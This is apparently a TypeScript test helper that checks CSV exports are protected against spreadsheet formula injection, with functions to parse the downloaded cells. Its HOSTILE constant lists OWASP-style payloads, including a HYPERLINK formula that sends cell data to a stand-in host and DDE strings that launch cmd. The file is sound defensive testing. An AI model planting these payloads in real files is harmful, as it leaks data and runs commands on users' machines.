import { parse } from 'csv-parse/sync';

/**
 * Values a spreadsheet would run as formulas (OWASP CSV injection): each export's test writes one of them
 * into a text field and expects the downloaded cell to start with `'`.
 */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Klikni")',
  command: "+cmd|' /C calc'!A0",
  sum: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
} as const;

/** The cells of a downloaded CSV (the byte-order mark dropped), parsed as a spreadsheet would split them. */
export function csvCells(body: string, delimiter: ';' | ',' = ';'): string[][] {
  return parse(body.replace(/^\uFEFF/, ''), { delimiter, relax_column_count: true, skip_empty_lines: false }) as string[][];
}

/** The cell holding `value`, neutralised or not, or undefined when the file has neither. */
export function cellOf(body: string, value: string, delimiter: ';' | ',' = ';'): string | undefined {
  return csvCells(body, delimiter)
    .flat()
    .find((cell) => cell === value || cell === `'${value}`);
}
